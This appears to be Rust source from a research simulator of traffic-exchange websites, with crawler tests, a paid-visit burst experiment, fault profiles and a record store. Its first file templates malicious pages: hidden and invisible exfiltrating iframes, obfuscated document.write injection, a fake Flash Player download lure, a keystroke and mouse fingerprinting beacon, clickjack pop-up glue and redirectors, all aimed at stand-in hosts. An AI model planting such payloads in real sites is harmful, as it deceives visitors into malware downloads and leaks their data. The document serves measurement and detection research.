/// tracking, embedded statically in the HTML.
pub fn pixel_iframe_page(site_name: &str, iframe_target: &Url) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Read our latest articles below.</p>
<iframe align="right" height="1" name="cwindow" scrolling="NO" src="{iframe_target}" style="border:8 solid #990000;" width="1"></iframe>
<p>More content coming soon.</p>"#
        ),
    )
}

/// §V-A category two: an invisible iframe (`allowtransparency`) that
/// uploads visitor information in its query string.
pub fn invisible_exfil_iframe_page(site_name: &str, exfil_host: &str, visitor_field: &str) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1>
<iframe src="https://{exfil_host}/a.php?t=29&o=pix&f={visitor_field}&g=5" width="1" height="1" framespacing="0" frameborder="no" allowtransparency="true"></iframe>
<p>Exclusive member offers inside.</p>"#
        ),
    )
}

/// §V-A category three: an iframe injected dynamically via
/// `document.write`, optionally wrapped in `layers` of obfuscation.
pub fn js_injected_iframe_page(site_name: &str, iframe_target: &Url, obfuscation_layers: u32) -> String {
    let injector = format!(
        "document.write('<iframe allowtransparency=\"true\" scrolling=\"no\" frameborder=\"0\" border=\"0\" width=\"1\" height=\"1\" marginwidth=\"0\" marginheight=\"0\" src=\"{iframe_target}\"></iframe>');"
    );
    let script = pack_layers(&injector, obfuscation_layers);
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Loading personalized content...</p>
<script type="text/javascript">{script}</script>"#
        ),
    )
}

/// §V-B: the fake "install plug-in" bar that downloads a deceptively
/// named executable. `download_host` serves the executable; clicking the
/// prompt runs JS that navigates to the download URL.
pub fn deceptive_download_page(site_name: &str, download_host: &str) -> String {
    let js = format!(
        "window.location.href = 'http://{download_host}/c?x=3yqY7CC2iwwAHopOgD&downloadAs=Flash-Player.exe&fallback_url=http://{download_host}/download.url';"
    );
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1>
<div id="dm_topbar">
  <a href="data:text/html,%3Chtml%3E%3Cbody%3E%3Cstrong%3EBaixando...%3C/strong%3E%3C/body%3E%3C/html%3E"
     data-dm-title="Flash Player" data-dm-format="3" data-dm-filesize="1.1"
     target="_blank" data-dm="1" data-dm-filename="flashplayer.exe"
     data-dm-href="http://{download_host}/downloader?id=7b225f22" class="download_link">
    <div id="dm_topbar_block">
      <img id="dm_topbar_icon" src="http://cdn.{download_host}/images/topbar-icon.png" alt="Adobe Flash Player" width="36" height="36">
      <span id="dm_topbar_text">A p&aacute;gina necessita do plugin para continuar.</span>
      <span id="dm_topbar_link">Instalar plug-in</span>
    </div>
  </a>
</div>
<script type="text/javascript">
function dmInstall() {{ {js} }}
document.addEventListener('click', function(e) {{ dmInstall(); }});
</script>
<p>Assista epis&oacute;dios completos gratuitamente.</p>"#
        ),
    )
}

/// §IV-A1: user-behaviour fingerprinting — records mouse movements and
/// ships them to a collector.
pub fn fingerprinting_page(site_name: &str, collector_host: &str) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Interactive catalogue.</p>
<script type="text/javascript">
var trail = [];
document.addEventListener('mousemove', function(e) {{
  trail.push('m');
  if (trail.length > 50) {{
    var beacon = document.createElement('iframe');
    beacon.src = 'http://{collector_host}/fp?d=' + trail.join('');
    beacon.width = 1; beacon.height = 1;
    document.body.appendChild(beacon);
    trail = [];
  }}
}});
document.addEventListener('keydown', function(e) {{ trail.push('k'); }});
</script>"#
        ),
    )
}

/// §V-D: page embedding an invisible full-page Flash movie whose click
/// handler opens pop-up ads. The object references an SWF descriptor
/// resource plus the obfuscated glue script.
pub fn flash_clickjack_page(site_name: &str, swf_url: &Url, glue_script_url: &Url) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Play free games online.</p>
<object type="application/x-shockwave-flash" data="{swf_url}" width="100%" height="100%">
  <param name="wmode" value="transparent">
  <param name="allowscriptaccess" value="always">
</object>
<script type="text/javascript" src="{glue_script_url}"></script>"#
        ),
    )
}

/// The obfuscated JS glue that a Flash clickjack page loads
/// (`542_mobile3.js` in the paper): defines the pop-up callbacks the SWF
/// invokes through `ExternalInterface`.
pub fn flash_glue_script(popup_url: &Url, obfuscation_layers: u32) -> String {
    let plain = format!(
        "var AdFlash = {{ onClick: function() {{ window.open('{popup_url}'); }} }}; window.NqPnfu = function() {{ window.open('{popup_url}'); }};"
    );
    pack_layers(&plain, obfuscation_layers.max(1))
}

/// §V-C: a seemingly benign page whose external script lives on a
/// rotating-redirector host (`company.ooo` pattern).
pub fn rotating_redirector_page(site_name: &str, script_url: &Url) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Daily news digest.</p>
<script type="text/javascript" src="{script_url}"></script>"#
        ),
    )
}

/// The server-side rotating redirector's script body: navigates to a
/// different destination on every fetch (the destination is baked in by
/// the server at serve time).
pub fn redirector_script_body(destination: &Url) -> String {
    format!("window.location.href = '{destination}';")
}

/// A page that participates in a redirect chain only via meta refresh —
/// used as the final hop shape in Figure 4.
pub fn meta_refresh_page(target: &Url) -> String {
    shell(
        "redirecting",
        &format!(r#"<meta http-equiv="refresh" content="0; url={target}"><p>Redirecting…</p>"#),
    )
}

/// A page hosted on a blacklisted domain: ordinary-looking content whose
/// maliciousness is a property of the host, plus an ad call into a
/// blacklisted ad network.
pub fn blacklisted_host_page(site_name: &str, ad_network_host: &str) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Win amazing prizes. Click below!</p>
<script type="text/javascript" src="http://{ad_network_host}/serve.js?zone=7"></script>
<div class="banner"><a href="http://{ad_network_host}/go?offer=lucky">CLAIM NOW</a></div>"#
        ),
    )
}

/// §V-E false positive 1: the Google OAuth `postmessageRelay` iframe —
/// 1×1, positioned off-screen, structurally identical to a hidden-iframe
/// injection but benign.
pub fn google_oauth_relay_page(site_name: &str) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Sign in with your account to comment.</p>
<iframe name="oauth2relay503410543" id="oauth2relay503410543"
  src="https://accounts.google-auth.example/o/oauth2/postmessageRelay?parent=http%3A%2F%2F{site_name}#rpctoken=1510319259&forcesecure=1"
  tabindex="-1" style="width: 1px; height: 1px; position: absolute; top: -100px;"></iframe>"#
        ),
    )
}

/// §V-E false positive 2: the Google Analytics bootstrap snippet that
/// scanners mislabeled as `TrojanClicker:JS/Faceliker`.
pub fn google_analytics_page(site_name: &str) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Community recipes, updated weekly.</p>
<script type="text/javascript">
(function(i, s, o, g, r) {{
  i['GoogleAnalyticsObject'] = r;
  i[r] = i[r] || function() {{}};
  i[r].l = 1;
}})(window, document, 'script', '//analytics.google-analytics.example/analytics.js', 'ga');
</script>"#
        ),
    )
}

/// A traffic-exchange homepage (served when the exchange self-refers).
pub fn exchange_home_page(exchange_name: &str) -> String {
    shell(
        exchange_name,
        &format!(
            r#"<h1>{exchange_name}</h1><p>Earn credits by viewing member sites. Make easy money from home!</p>
<div class="surfbar">Next site in <span id="timer">30</span> seconds…</div>
<p>One account per IP address. Parallel sessions will suspend your account.</p>"#
        ),
    )
}

/// A stand-in for a genuinely popular site (Google, Facebook, YouTube):
/// exchanges point members at these to inflate bogus content views.
pub fn popular_site_page(name: &str) -> String {
    shell(name, &format!("<h1>{name}</h1><p>The page you know.</p>"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_js::obfuscate::is_likely_obfuscated;

    fn u(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn benign_page_has_ad_slot_and_no_iframe() {
        let html = benign_page("shopwave.example.com", ContentCategory::Business);
        assert!(html.contains("ad-slot"));
        assert!(!html.contains("<iframe"));
    }

    #[test]
    fn pixel_iframe_page_embeds_target() {
        let html = pixel_iframe_page("blog", &u("http://tracker.example/t"));
        assert!(html.contains(r#"height="1""#));
        assert!(html.contains(r#"width="1""#));
        assert!(html.contains("http://tracker.example/t"));
    }

    #[test]
    fn invisible_exfil_iframe_carries_query_exfil() {
        let html = invisible_exfil_iframe_page("promo", "acces.direction-x.example", "id_supp_99");
        assert!(html.contains("allowtransparency=\"true\""));
        assert!(html.contains("f=id_supp_99"));
    }

    #[test]
    fn js_injected_page_is_obfuscated_when_asked() {
        let plain = js_injected_iframe_page("s", &u("http://x.example/"), 0);
        assert!(plain.contains("document.write"));
        let packed = js_injected_iframe_page("s", &u("http://x.example/"), 2);
        assert!(!packed.contains("document.write('<iframe"));
        // The inline script body should look obfuscated to the heuristic.
        let script_start = packed.find("<script").unwrap();
        let body = &packed[script_start..];
        assert!(is_likely_obfuscated(body));
    }

    #[test]
    fn deceptive_download_page_shape() {
        let html = deceptive_download_page("anime-flix", "yupfiles-cdn.example");
        assert!(html.contains("data:text/html"));
        assert!(html.contains("data-dm-title=\"Flash Player\""));
        assert!(html.contains("Flash-Player.exe"));
    }

    #[test]
    fn fingerprinting_page_registers_mousemove() {
        let html = fingerprinting_page("catalog", "collector.example");
        assert!(html.contains("mousemove"));
        assert!(html.contains("collector.example/fp"));
    }

    #[test]
    fn flash_glue_always_packed() {
        let glue = flash_glue_script(&u("http://pop.example/ad"), 0);
        assert!(glue.starts_with("eval("));
    }

    #[test]
    fn false_positive_pages_look_suspicious() {
        let oauth = google_oauth_relay_page("apkmods.example.com");
        assert!(oauth.contains("width: 1px"));
        assert!(oauth.contains("top: -100px"));
        let ga = google_analytics_page("recipes.example.com");
        assert!(ga.contains("GoogleAnalyticsObject"));
    }

    #[test]
    fn meta_refresh_page_has_refresh_directive() {
        let html = meta_refresh_page(&u("http://next.example/hop"));
        assert!(html.contains("http-equiv=\"refresh\""));
        assert!(html.contains("url=http://next.example/hop"));
    }
}
