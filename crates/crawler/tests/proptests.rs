//! Property tests for the crawler: step accounting, determinism,
//! store round-trips.

use proptest::prelude::*;
use slum_crawler::drive::{crawl_exchange, CrawlConfig};
use slum_crawler::RecordStore;
use slum_exchange::params::PROFILES;
use slum_exchange::build_exchange;
use slum_websim::build::WebBuilder;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// A crawl always logs exactly the requested number of pages, for
    /// any exchange, seed, and step count.
    #[test]
    fn crawl_logs_exact_step_count(
        profile_idx in 0usize..9,
        steps in 1u64..40,
        seed in 0u64..50,
    ) {
        let profile = &PROFILES[profile_idx];
        let mut b = WebBuilder::new(seed);
        let mut exchange = build_exchange(&mut b, profile, 0.03, 50_000);
        let web = b.finish();
        let mut store = RecordStore::new();
        let stats = crawl_exchange(
            &web,
            &mut exchange,
            &CrawlConfig { steps, seed, capture_content: false, ..Default::default() },
            &mut store,
        );
        prop_assert_eq!(stats.pages, steps);
        prop_assert_eq!(store.len() as u64, steps);
        // Sequence numbers are dense and ordered.
        for (i, record) in store.records().iter().enumerate() {
            prop_assert_eq!(record.seq, i as u64);
            prop_assert_eq!(&record.exchange, profile.name);
        }
    }

    /// The record store's JSON-lines round trip preserves everything the
    /// analysis consumes, for real crawl output.
    #[test]
    fn store_jsonl_round_trip(seed in 0u64..30) {
        let profile = &PROFILES[(seed % 9) as usize];
        let mut b = WebBuilder::new(seed);
        let mut exchange = build_exchange(&mut b, profile, 0.03, 20_000);
        let web = b.finish();
        let mut store = RecordStore::new();
        crawl_exchange(
            &web,
            &mut exchange,
            &CrawlConfig { steps: 15, seed, ..Default::default() },
            &mut store,
        );
        let jsonl = store.to_jsonl().expect("serialize");
        let back = RecordStore::from_jsonl(&jsonl).expect("parse");
        prop_assert_eq!(back.len(), store.len());
        for (a, b) in back.records().iter().zip(store.records()) {
            prop_assert_eq!(&a.url, &b.url);
            prop_assert_eq!(&a.final_url, &b.final_url);
            prop_assert_eq!(a.redirect_hops, b.redirect_hops);
            prop_assert_eq!(&a.har, &b.har);
        }
    }
}
