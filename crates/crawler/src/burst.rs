//! The burst-validation experiment client (§IV).
//!
//! To confirm that the malicious-URL bursts on manual-surf exchanges
//! come from fixed-duration paid campaigns, the study purchased 2,500
//! visits for $5 on a manual-surf exchange for a dummy site and observed
//! 4,621 visits from 2,685 unique IPs within an hour. This module runs
//! that experiment against the simulator end to end: open an account,
//! pay, schedule the campaign, receive the visit stream, summarize.

use rand::rngs::StdRng;

use slum_exchange::campaign::{summarize, Campaign, DeliveryModel, DeliveryReport, VisitEvent};
use slum_exchange::economy::{EconomyConfig, EconomyError, Ledger};
use slum_exchange::Exchange;
use slum_websim::Url;

/// Result of the full purchase-and-measure experiment.
#[derive(Debug, Clone)]
pub struct BurstExperiment {
    /// The campaign as scheduled on the exchange.
    pub campaign: Campaign,
    /// Every visit the dummy site received.
    pub visits: Vec<VisitEvent>,
    /// Aggregate report (the numbers the paper quotes).
    pub report: DeliveryReport,
}

/// Purchases `dollars` worth of visits for `dummy_site` on `exchange`,
/// schedules the campaign at `start`, and simulates delivery.
///
/// # Errors
///
/// Propagates ledger failures (suspended account, ...).
pub fn run_burst_experiment(
    exchange: &mut Exchange,
    dummy_site: &Url,
    dollars: u64,
    start: u64,
    rng: &mut StdRng,
) -> Result<BurstExperiment, EconomyError> {
    let mut ledger = Ledger::new();
    let economy = EconomyConfig::default();
    let account = ledger.open_account();

    // Pay → receive visit credits → commit them to the campaign.
    let visits_purchased = ledger.purchase(account, dollars, &economy)?;
    ledger.spend_visits(account, visits_purchased, &economy)?;
    debug_assert!(ledger.is_conserved());

    let model = DeliveryModel::default();
    let campaign = Campaign {
        target: dummy_site.clone(),
        visits_purchased,
        dollars,
        start,
        end: start + model.window_secs,
        boost: 50.0,
    };
    exchange.schedule_campaign(campaign.clone());

    let visits = model.deliver(visits_purchased, start, rng);
    let report = summarize(visits_purchased, &visits);
    Ok(BurstExperiment { campaign, visits, report })
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_exchange::{build_exchange, params::profile};
    use slum_websim::build::WebBuilder;
    use slum_websim::rng::seeded;

    #[test]
    fn experiment_reproduces_paper_numbers() {
        let mut b = WebBuilder::new(140);
        let dummy = b.benign_site(Default::default());
        let mut x = build_exchange(&mut b, profile("Cash N Hits").unwrap(), 0.05, 100_000);
        let mut rng = seeded(2016);

        let exp = run_burst_experiment(&mut x, &dummy.url, 5, 10_000, &mut rng).unwrap();

        assert_eq!(exp.campaign.visits_purchased, 2_500, "$5 buys 2,500 visits");
        assert_eq!(exp.report.delivered, 4_621, "paper's observed delivery");
        assert!(exp.report.unique_ips >= 1_800 && exp.report.unique_ips <= 2_900);
        assert!(exp.report.span_secs < 3_600, "within an hour");
        // The exchange now rotates the dummy site during the window.
        assert!(x.campaigns().iter().any(|c| c.target == dummy.url));
    }

    #[test]
    fn overdelivery_exceeds_purchase() {
        let mut b = WebBuilder::new(141);
        let dummy = b.benign_site(Default::default());
        let mut x = build_exchange(&mut b, profile("Hit2Hit").unwrap(), 0.05, 50_000);
        let mut rng = seeded(7);
        let exp = run_burst_experiment(&mut x, &dummy.url, 2, 0, &mut rng).unwrap();
        assert!(exp.report.delivered > exp.report.purchased);
    }
}
