//! Named crawl-fault profiles and the per-exchange health log.
//!
//! A [`CrawlFaultProfile`] bundles the exchange-side hazard rates
//! ([`LifecycleParams`] per exchange class) with the retry discipline
//! the crawler applies when it runs into them — mirroring how
//! `slum_detect::fault::FaultProfile` packages scanner-side faults.
//! Profiles are strictly opt-in: [`CrawlFaultProfile::none`] is inert
//! and the default, so fault-free runs stay bit-identical to the
//! pre-resilience crawler.

use serde::Serialize;

use slum_detect::retry::RetryPolicy;
use slum_exchange::lifecycle::{ExchangeLifecycle, LifecycleParams};
use slum_exchange::{ExchangeKind, TrafficSource};

/// A named, seeded crawl-fault profile.
#[derive(Debug, Clone, PartialEq)]
pub struct CrawlFaultProfile {
    /// Profile name (echoed in reports; `none` is the inert default).
    pub name: String,
    /// Salt mixed with the study seed, so the same corpus can be
    /// faulted independently per profile.
    pub seed_salt: u64,
    /// Hazard rates for the five auto-surf exchanges.
    pub auto: LifecycleParams,
    /// Hazard rates for the four manual-surf exchanges.
    pub manual: LifecycleParams,
    /// Retry discipline applied when a surf step hits a fault window.
    pub retry: RetryPolicy,
}

impl Default for CrawlFaultProfile {
    fn default() -> Self {
        CrawlFaultProfile::none()
    }
}

impl CrawlFaultProfile {
    /// Every named profile, for CLI help text.
    pub const NAMES: [&'static str; 3] = ["none", "default", "harsh"];

    /// The inert profile: no lifecycle hazards, no retries. This is the
    /// [`Default`], so crawl-fault injection is strictly opt-in.
    pub fn none() -> Self {
        CrawlFaultProfile {
            name: "none".to_string(),
            seed_salt: 0,
            auto: LifecycleParams::reliable(),
            manual: LifecycleParams::reliable(),
            retry: RetryPolicy::no_retries(),
        }
    }

    /// The moderate operational profile: occasional outages on every
    /// exchange, anti-abuse bans and CAPTCHA lockouts on the
    /// manual-surf services, a small per-exchange chance of a permanent
    /// Traffic-Monsoon-style shutdown, and rare session drops.
    pub fn default_profile() -> Self {
        CrawlFaultProfile {
            name: "default".to_string(),
            seed_salt: 0xc4a_71,
            auto: LifecycleParams {
                outage_windows: 2,
                outage_secs: 400,
                ban_windows: 1,
                ban_secs: 300,
                lockout_windows: 0,
                lockout_secs: 0,
                shutdown_per_mille: 150,
                session_drop_per_mille: 10,
                reconnect_secs: 20,
            },
            manual: LifecycleParams {
                outage_windows: 1,
                outage_secs: 300,
                ban_windows: 1,
                ban_secs: 400,
                lockout_windows: 1,
                lockout_secs: 200,
                shutdown_per_mille: 150,
                session_drop_per_mille: 15,
                reconnect_secs: 30,
            },
            retry: RetryPolicy::default(),
        }
    }

    /// The harsh profile: long outages, aggressive bans and lockouts,
    /// a high shutdown probability and frequent session drops — for
    /// stress-testing graceful degradation.
    pub fn harsh() -> Self {
        CrawlFaultProfile {
            name: "harsh".to_string(),
            seed_salt: 0xdead_51d,
            auto: LifecycleParams {
                outage_windows: 4,
                outage_secs: 1_200,
                ban_windows: 2,
                ban_secs: 900,
                lockout_windows: 0,
                lockout_secs: 0,
                shutdown_per_mille: 400,
                session_drop_per_mille: 40,
                reconnect_secs: 45,
            },
            manual: LifecycleParams {
                outage_windows: 3,
                outage_secs: 900,
                ban_windows: 2,
                ban_secs: 1_200,
                lockout_windows: 2,
                lockout_secs: 600,
                shutdown_per_mille: 400,
                session_drop_per_mille: 60,
                reconnect_secs: 60,
            },
            retry: RetryPolicy { max_retries: 3, ..RetryPolicy::default() },
        }
    }

    /// Looks a profile up by name.
    pub fn parse(name: &str) -> Option<Self> {
        match name {
            "none" => Some(CrawlFaultProfile::none()),
            "default" => Some(CrawlFaultProfile::default_profile()),
            "harsh" => Some(CrawlFaultProfile::harsh()),
            _ => None,
        }
    }

    /// True when this profile can never produce a fault.
    pub fn is_inert(&self) -> bool {
        self.auto.is_inert() && self.manual.is_inert()
    }

    /// Validates internal consistency.
    ///
    /// # Errors
    ///
    /// Returns a human-readable description of the first invalid field.
    pub fn validate(&self) -> Result<(), String> {
        self.auto.validate().map_err(|e| format!("auto: {e}"))?;
        self.manual.validate().map_err(|e| format!("manual: {e}"))?;
        Ok(())
    }

    /// The hazard parameters for one exchange class.
    pub fn params_for(&self, kind: ExchangeKind) -> &LifecycleParams {
        match kind {
            ExchangeKind::AutoSurf => &self.auto,
            ExchangeKind::ManualSurf => &self.manual,
        }
    }

    /// Compiles the lifecycle schedule for `source`, expected to
    /// crawl for `span_secs` of virtual time. The salt mixes the study
    /// seed with the profile salt exactly like the scan-side
    /// `FaultPlan::compile`, so the same corpus faults independently
    /// per profile.
    pub fn compile_for<S: TrafficSource + ?Sized>(
        &self,
        source: &S,
        seed: u64,
        span_secs: u64,
    ) -> ExchangeLifecycle {
        let salt = seed ^ self.seed_salt.rotate_left(17);
        ExchangeLifecycle::compile(self.params_for(source.kind()), salt, source.name(), span_secs)
    }
}

/// Per-exchange crawl-health log: what the lifecycle faults cost one
/// exchange's crawl. Surfaced through `Study` and the JSON export.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct CrawlHealth {
    /// Exchange name.
    pub exchange: String,
    /// Pages actually logged.
    pub pages: u64,
    /// Planned surf slots lost to faults (including everything after a
    /// permanent shutdown). `pages + lost_steps` always equals the
    /// planned step budget.
    pub lost_steps: u64,
    /// Surf steps that ran into an outage window.
    pub outage_hits: u64,
    /// Surf steps that ran into an anti-abuse ban.
    pub ban_hits: u64,
    /// Surf steps that ran into a CAPTCHA lockout.
    pub captcha_lockouts: u64,
    /// Surf sessions dropped after a logged page.
    pub session_drops: u64,
    /// Total faults injected (failed attempts across all retry loops,
    /// plus session drops).
    pub faults_injected: u64,
    /// Retries issued against fault windows.
    pub retries: u64,
    /// Virtual backoff spent between attempts (nanoseconds).
    pub backoff_nanos: u64,
    /// Virtual seconds the crawl spent down (backoff + reconnects).
    pub downtime_secs: u64,
    /// Virtual second the exchange permanently shut down, if it did.
    pub shutdown_at: Option<u64>,
}

impl CrawlHealth {
    /// A healthy log for `exchange` (all-zero; what an inert profile
    /// produces).
    pub fn healthy(exchange: &str, pages: u64) -> Self {
        CrawlHealth { exchange: exchange.to_string(), pages, ..CrawlHealth::default() }
    }

    /// True when the exchange crawl saw no fault at all.
    pub fn is_clean(&self) -> bool {
        self.lost_steps == 0
            && self.faults_injected == 0
            && self.session_drops == 0
            && self.shutdown_at.is_none()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn none_is_inert_and_default() {
        assert!(CrawlFaultProfile::none().is_inert());
        assert!(CrawlFaultProfile::default().is_inert());
        assert!(!CrawlFaultProfile::default_profile().is_inert());
        assert!(!CrawlFaultProfile::harsh().is_inert());
    }

    #[test]
    fn parse_round_trips_every_name() {
        for name in CrawlFaultProfile::NAMES {
            let profile = CrawlFaultProfile::parse(name).expect(name);
            assert_eq!(profile.name, name);
            assert!(profile.validate().is_ok(), "{name} must validate");
        }
        assert!(CrawlFaultProfile::parse("bogus").is_none());
    }

    #[test]
    fn validate_flags_the_broken_class() {
        let mut bad = CrawlFaultProfile::default_profile();
        bad.manual.session_drop_per_mille = 5_000;
        let err = bad.validate().unwrap_err();
        assert!(err.starts_with("manual:"), "{err}");
    }

    #[test]
    fn healthy_log_is_clean() {
        let h = CrawlHealth::healthy("Otohits", 120);
        assert!(h.is_clean());
        assert_eq!(h.pages, 120);
        let mut sick = h.clone();
        sick.lost_steps = 1;
        assert!(!sick.is_clean());
    }
}
