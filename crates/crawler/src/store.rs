//! The crawl-record store.

use std::collections::BTreeSet;
use std::fmt;

use crate::record::CrawlRecord;

/// Maximum characters of the offending line echoed in a [`JsonlError`].
const SNIPPET_MAX: usize = 60;

/// A parse failure in a JSON-lines record stream, pinned to the line
/// that caused it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JsonlError {
    /// 1-based line number of the offending line.
    pub line: usize,
    /// The offending line, truncated to a displayable snippet.
    pub snippet: String,
    /// What went wrong on that line.
    pub detail: String,
}

impl JsonlError {
    fn new(line: usize, raw: &str, detail: impl Into<String>) -> Self {
        let mut snippet: String = raw.chars().take(SNIPPET_MAX).collect();
        if raw.chars().count() > SNIPPET_MAX {
            snippet.push('…');
        }
        JsonlError { line, snippet, detail: detail.into() }
    }
}

impl fmt::Display for JsonlError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}: {} (in {:?})", self.line, self.detail, self.snippet)
    }
}

impl std::error::Error for JsonlError {}

/// An in-memory store of crawl records with the aggregate queries the
/// dataset assembly needs.
#[derive(Debug, Default, Clone, PartialEq)]
pub struct RecordStore {
    records: Vec<CrawlRecord>,
}

impl RecordStore {
    /// Creates an empty store.
    pub fn new() -> Self {
        RecordStore::default()
    }

    /// Appends a record.
    pub fn push(&mut self, record: CrawlRecord) {
        self.records.push(record);
    }

    /// Appends many records.
    pub fn extend(&mut self, records: impl IntoIterator<Item = CrawlRecord>) {
        self.records.extend(records);
    }

    /// All records.
    pub fn records(&self) -> &[CrawlRecord] {
        &self.records
    }

    /// Consumes the store into its records (no cloning) — how the
    /// streaming crawl hands a segment's records to the scan side.
    pub fn into_records(self) -> Vec<CrawlRecord> {
        self.records
    }

    /// Total visit count.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }

    /// Records for one exchange.
    pub fn by_exchange<'a>(&'a self, exchange: &'a str) -> impl Iterator<Item = &'a CrawlRecord> {
        self.records.iter().filter(move |r| r.exchange == exchange)
    }

    /// Exchange names present, sorted.
    pub fn exchanges(&self) -> Vec<String> {
        let set: BTreeSet<String> =
            self.records.iter().map(|r| r.exchange.clone()).collect();
        set.into_iter().collect()
    }

    /// Count of distinct surfed URLs (full canonical form, query
    /// included — the paper's 306,895 "distinct URLs").
    pub fn distinct_urls(&self) -> usize {
        let set: BTreeSet<String> =
            self.records.iter().map(|r| r.url.canonical()).collect();
        set.len()
    }

    /// Count of distinct registered domains (the paper's 17,448).
    pub fn distinct_domains(&self) -> usize {
        let set: BTreeSet<String> = self.records.iter().map(|r| r.domain()).collect();
        set.len()
    }

    /// Serializes to JSON-lines.
    ///
    /// # Errors
    ///
    /// Propagates serde failures.
    pub fn to_jsonl(&self) -> Result<String, serde_json::Error> {
        let mut out = String::new();
        for r in &self.records {
            out.push_str(&serde_json::to_string(r)?);
            out.push('\n');
        }
        Ok(out)
    }

    /// Parses a store from JSON-lines. Blank lines between records are
    /// tolerated; anything else — including trailing garbage after the
    /// last record — must parse as a full record.
    ///
    /// # Errors
    ///
    /// Returns a [`JsonlError`] naming the first offending line (1-based)
    /// with a truncated snippet of its content.
    pub fn from_jsonl(input: &str) -> Result<RecordStore, JsonlError> {
        let mut store = RecordStore::new();
        for (idx, line) in input.lines().enumerate() {
            if line.trim().is_empty() {
                continue;
            }
            let record = serde_json::from_str(line)
                .map_err(|e| JsonlError::new(idx + 1, line, e.to_string()))?;
            store.push(record);
        }
        Ok(store)
    }
}

impl FromIterator<CrawlRecord> for RecordStore {
    fn from_iter<T: IntoIterator<Item = CrawlRecord>>(iter: T) -> Self {
        let mut store = RecordStore::new();
        store.extend(iter);
        store
    }
}

impl Extend<CrawlRecord> for RecordStore {
    fn extend<T: IntoIterator<Item = CrawlRecord>>(&mut self, iter: T) {
        self.records.extend(iter);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_browser::har::HarLog;
    use slum_websim::Url;

    fn rec(exchange: &str, url: &str, seq: u64) -> CrawlRecord {
        let u = Url::parse(url).unwrap();
        CrawlRecord {
            exchange: exchange.into(),
            seq,
            at: seq,
            url: u.clone(),
            final_url: u,
            redirect_hops: 0,
            chain_hosts: vec![],
            via_shortener: false,
            via_js_redirect: false,
            content: None,
            download_filenames: vec![],
            har: HarLog::new(),
            failed: false,
        }
    }

    #[test]
    fn distinct_counts() {
        let mut s = RecordStore::new();
        s.push(rec("A", "http://x.example.com/p?sid=1", 0));
        s.push(rec("A", "http://x.example.com/p?sid=2", 1));
        s.push(rec("A", "http://x.example.com/p?sid=1", 2));
        s.push(rec("B", "http://y.example.net/", 0));
        assert_eq!(s.len(), 4);
        assert_eq!(s.distinct_urls(), 3);
        assert_eq!(s.distinct_domains(), 2);
        assert_eq!(s.exchanges(), vec!["A".to_string(), "B".to_string()]);
        assert_eq!(s.by_exchange("A").count(), 3);
    }

    #[test]
    fn jsonl_round_trip() {
        let mut s = RecordStore::new();
        for i in 0..5 {
            // Distinct registered domains (subdomains of one domain would
            // collapse in distinct_domains()).
            s.push(rec("X", &format!("http://site{i}-example.com/"), i));
        }
        let jsonl = s.to_jsonl().unwrap();
        assert_eq!(jsonl.lines().count(), 5);
        let back = RecordStore::from_jsonl(&jsonl).unwrap();
        assert_eq!(back.len(), 5);
        assert_eq!(back.distinct_domains(), 5);
    }

    #[test]
    fn from_iterator_collects() {
        let s: RecordStore =
            (0..3).map(|i| rec("Z", &format!("http://d{i}.example.org/"), i)).collect();
        assert_eq!(s.len(), 3);
    }

    #[test]
    fn malformed_jsonl_errors() {
        assert!(RecordStore::from_jsonl("{not json}").is_err());
    }

    #[test]
    fn jsonl_error_pins_the_failing_line_and_snippet() {
        let mut s = RecordStore::new();
        s.push(rec("A", "http://a.example.com/", 0));
        s.push(rec("A", "http://b.example.com/", 1));
        let mut jsonl = s.to_jsonl().unwrap();
        jsonl.push_str("this is definitely not a record\n");
        let err = RecordStore::from_jsonl(&jsonl).unwrap_err();
        assert_eq!(err.line, 3);
        assert!(err.snippet.starts_with("this is definitely"), "{:?}", err.snippet);
        assert!(!err.detail.is_empty());
        // Display ties all three together for log lines.
        let shown = err.to_string();
        assert!(shown.contains("line 3"), "{shown}");
    }

    #[test]
    fn jsonl_error_truncates_long_snippets() {
        let long = format!("{{\"exchange\": \"{}\"", "x".repeat(500));
        let err = RecordStore::from_jsonl(&long).unwrap_err();
        assert_eq!(err.line, 1);
        assert!(err.snippet.chars().count() <= 61, "{}", err.snippet.len());
        assert!(err.snippet.ends_with('…'));
    }

    #[test]
    fn trailing_garbage_after_last_record_is_rejected() {
        let mut s = RecordStore::new();
        s.push(rec("A", "http://a.example.com/", 0));
        let jsonl = s.to_jsonl().unwrap();
        // Trailing whitespace is fine…
        assert!(RecordStore::from_jsonl(&format!("{jsonl}\n  \n")).is_ok());
        // …but a trailing non-whitespace fragment (even without a final
        // newline) is not.
        let err = RecordStore::from_jsonl(&format!("{jsonl}garbage")).unwrap_err();
        assert_eq!(err.line, 2);
        // Nor is garbage appended to a record line itself.
        let fused = jsonl.trim_end().to_string() + "garbage\n";
        assert!(RecordStore::from_jsonl(&fused).is_err());
    }

    /// `exchanges()` returns lexicographically sorted names regardless
    /// of first-seen order — analysis tables rely on this for stable
    /// row ordering across worker counts.
    #[test]
    fn exchanges_sorted_not_first_seen() {
        let mut s = RecordStore::new();
